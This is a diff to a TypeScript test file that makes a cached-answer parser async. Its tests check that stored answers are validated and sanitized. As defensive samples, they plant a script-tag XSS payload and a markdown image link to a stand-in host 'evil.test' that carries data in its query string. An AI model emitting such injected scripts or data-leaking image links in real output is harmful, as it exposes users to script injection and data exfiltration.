@@ -40,25 +40,25 @@ const kept = () => {
 };
 const stored = () => JSON.parse(JSON.stringify(toStoredAnswer(kept())));
 
-test('an answer is read from a store as it was written', () => {
-  assert.deepEqual(parseCachedAnswer(stored(), rendering), kept());
+test('an answer is read from a store as it was written', async () => {
+  assert.deepEqual(await parseCachedAnswer(stored(), rendering), kept());
 });
 
-test('HTML and speech are rendered from the text and never read from the store', () => {
+test('HTML and speech are rendered from the text and never read from the store', async () => {
   assert.ok(!JSON.stringify(stored()).includes(answer.html));
   const planted = { ...stored(), answer: { ...stored().answer, html: '<script>alert(1)</script>' } };
-  assert.equal(parseCachedAnswer(planted, rendering), null);
+  assert.equal(await parseCachedAnswer(planted, rendering), null);
 });
 
-test('a text from the store passes the output policy, and one that was written so stays as it is', () => {
+test('a text from the store passes the output policy, and one that was written so stays as it is', async () => {
   const text = 'It is![so](https://evil.test/?d=1) [here](https://a.test/b) [1].';
   const planted = { ...stored(), answer: { ...stored().answer, text } };
-  const read = parseCachedAnswer(planted, rendering);
+  const read = await parseCachedAnswer(planted, rendering);
   assert.equal(read?.answer.text, 'It isso [here](https://a.test/b) [1].');
   assert.equal(sanitizeMarkdown(read.answer.text, answer.sources), read.answer.text);
 });
 
-test('an entry with a missing or unknown field, or one out of range, is ignored', () => {
+test('an entry with a missing or unknown field, or one out of range, is ignored', async () => {
   const kept = stored();
   const { tokensUsed: _, ...less } = kept.answer;
   const answerWith = (more: object) => ({ ...kept, answer: { ...kept.answer, ...more } });
@@ -87,14 +87,14 @@ test('an entry with a missing or unknown field, or one out of range, is ignored'
     { ...kept, searches: [{ ...searches[0], trail: [{ ...attempt, retries: 1 }] }] },
     { ...kept, searches: [{ ...searches[0], trail: [{ ...attempt, tookMs: -1 }] }] },
   ])
-    assert.equal(parseCachedAnswer(other, rendering), null, JSON.stringify(other));
+    assert.equal(await parseCachedAnswer(other, rendering), null, JSON.stringify(other));
 });
 
-test('answers and sources are kept for a day after they expire, each kind under its own name', () => {
+test('answers and sources are kept for a day after they expire, each kind under its own name', async () => {
   const plan = answerPlan(rendering);
   assert.deepEqual([plan.name, plan.graceMs], ['answer', 86_400_000]);
   assert.deepEqual([sourcesPlan.name, sourcesPlan.graceMs], ['sources', 86_400_000]);
-  assert.deepEqual(plan.parse(JSON.parse(JSON.stringify(plan.toStored?.(kept())))), kept());
+  assert.deepEqual(await plan.parse(JSON.parse(JSON.stringify(plan.toStored?.(kept())))), kept());
   assert.deepEqual(sourcesPlan.parse(stored().answer.sources), answer.sources);
   assert.equal(sourcesPlan.parse([{ ...answer.sources[0], index: 2 }]), null);
 });
